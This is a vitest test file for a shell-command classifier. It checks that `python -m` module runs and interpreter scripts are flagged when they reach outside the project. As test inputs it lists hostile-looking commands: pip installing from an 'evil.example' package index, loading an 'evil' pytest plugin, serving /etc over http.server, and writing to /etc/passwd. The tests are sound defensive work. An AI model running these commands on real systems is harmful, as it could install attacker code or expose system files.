/**
 * `python -m module`: the module's program reads the words after it with its own rule
 * (pythonModule.ts), and an interpreter's script and its words meet the default's path and
 * remote-code checks (interpreters.ts `scriptArgs`). Each attack spells what the program itself
 * does with the option (pytest's and pip's documentation); through `python -m` it is the same call.
 */
import { describe, expect, it } from 'vitest';
import { expectCompound, expectSimple } from '../classify.testkit.js';

const compound = (cmd: string, holds: string) => expect(expectCompound(cmd).key, cmd).toContain(holds);
const simple = (cmd: string) => expectSimple(cmd, cmd.split(' ')[0]);

describe('python -m: the module is the program', () => {
  it('reads the module program’s words with its rule, as strictly as the program itself', () => {
    compound('python -m pytest -c ../evil.ini', '#outside');
    compound('python3 -m pytest -p evil', '#p');
    compound('python -m pytest --evil', '#unknown_option');
    compound('python -mpytest --rootdir=/ tests', '#rootdir'); // the module attached to -m
    compound('python -m pip install ../../x', '#outside');
    compound('python -m pip install --index-url https://evil.example/simple x', '#index');
    compound('python -m mypy --config-file ../x.ini src', '#outside');
  });

  it('a module no rule knows meets the default for a program without a spec', () => {
    compound('python -m http.server --directory /etc', '#outside');
    compound('python -m some_tool --plugin=../x.py', '#outside');
    // `test` is the standard library's test package here, not the shell builtin.
    simple('python -m test -v');
  });

  it('everyday module runs stay one simple call', () => {
    for (const cmd of [
      'python -m pytest -q tests',
      'python3 -m pytest -x -k test_login tests/test_auth.py',
      'python3 -m pip install -r requirements.txt',
      'python3 -m pip install -e .',
      'python -m venv .venv',
      'python -m http.server 8000',
      'python -m unittest discover -s tests',
      'python -m black --check .',
      'python -m mypy src',
    ])
      simple(cmd);
  });
});

describe('an interpreter’s script and its words', () => {
  it('a script outside the project, or a path outside it handed to the script, is never simple', () => {
    compound('python ../x.py', '#outside');
    compound('python3 ~/bin/tool.py', '#outside');
    compound('node ../x.js', '#outside');
    compound('ruby /tmp/x.rb', '#outside');
    compound('perl ../x.pl', '#outside');
    compound('python x.py --out /etc/passwd', '#outside');
  });

  it('a script in the project and its own options stay simple', () => {
    simple('python manage.py test --settings=proj.settings_test');
    simple('node index.js --port 3000');
    simple('python3 scripts/build.py --release');
  });
});
